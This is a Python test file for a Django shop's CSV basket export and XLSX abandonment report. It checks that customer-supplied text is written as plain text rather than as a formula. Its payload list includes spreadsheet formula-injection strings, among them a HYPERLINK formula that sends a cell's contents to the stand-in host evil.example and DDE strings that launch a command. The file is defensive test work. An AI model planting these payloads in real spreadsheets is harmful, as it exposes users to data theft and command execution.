"""No formulas in spreadsheets (SPEC AC-3): every text a client or shopper sets comes out of
the CSV export and the XLSX abandon report as plain text, never as a formula."""

import csv
import io
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from django.utils import timezone

from abandonment.models import Abandonment
from abandonment.services.reports import abandon_report_build, abandon_report_request
from baskets.services.actors import Actor
from baskets.spreadsheets import cell_text
from tests.support.clients import staff_user
from tests.support.factories import (
    BasketFactory,
    CustomerAccountFactory,
    LineFactory,
    ShopAccountFactory,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def text(cell) -> str:
    # XLSX stores a carriage return as _x000D_; spreadsheet programs (not openpyxl) decode it.
    return str(cell.value).replace("_x000D_", "\r")


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_cell_text_prefixes_formula_starts(payload):
    """SPEC: AC-3"""
    assert cell_text(payload) == "'" + payload
    assert cell_text("Ada Lovelace") == "Ada Lovelace"


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_csv_export_writes_every_client_text_as_plain_text(client, payload):
    """SPEC: AC-3 BM-2 — shop account name and e-mail, account name, e-mail and ID, product,
    variant and unit of measure IDs: each comes out with a leading ' and nothing else."""
    customer = CustomerAccountFactory(name=payload, email=payload, erp_account_id=payload[:40])
    account = ShopAccountFactory(name=payload, email=payload, customer_account=customer)
    basket = BasketFactory(shop_account=account, customer_account=customer, account_type="customer")
    LineFactory(
        basket=basket,
        product_id=payload[:40],
        variant_id=payload[:40],
        unit_of_measure_id=payload[:10],
    )
    client.force_login(staff_user("System administrator"))
    response = client.get("/admin/baskets/basket/export/")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 2
    texts = dict(zip(rows[0], rows[1], strict=True))
    expected = {
        "Shop account name": payload,
        "Shop account e-mail": payload,
        "Account name": payload,
        "Account e-mail": payload,
        "Account ID": payload[:40],
        "Product ID": payload[:40],
        "Variant ID": payload[:40],
        "Unit of measure ID": payload[:10],
    }
    assert {header: texts[header] for header in expected} == {
        header: "'" + value for header, value in expected.items()
    }


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_xlsx_report_writes_every_client_text_as_plain_text_on_every_sheet(payload, tmp_path):
    """SPEC: AC-3 AB-3 — the Abandonments and Summary sheets hold strings, no formula."""
    at = timezone.make_aware(datetime(2026, 3, 1, 10))
    Abandonment.objects.create(
        basket_guid="3f2c8a4e-5b1d-4c3e-9a7f-0d1e2f3a4b5c",
        captured_at=at,
        last_activity_at=at - timedelta(hours=1),
        shop_account_email=payload,
        total="30.00",
        currency="EUR",
        lines=[{"product_id": payload, "variant_id": payload, "quantity": 1, "unit_price": "1"}],
    )
    report = abandon_report_request(
        actor=Actor.system("test"), date_from=date(2026, 3, 1), date_to=date(2026, 3, 1)
    )
    built = abandon_report_build(report_id=report.pk)
    workbook = openpyxl.load_workbook(built.file.path)
    data = list(workbook["Abandonments"].iter_rows(min_row=2))[0]
    assert [(text(cell), cell.data_type) for cell in (data[3], data[7], data[8])] == [
        ("'" + payload, "s")
    ] * 3
    summary = [row for row in workbook["Summary"].iter_rows() if text(row[0]) == "'" + payload]
    assert len(summary) == 1 and summary[0][0].data_type == "s"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
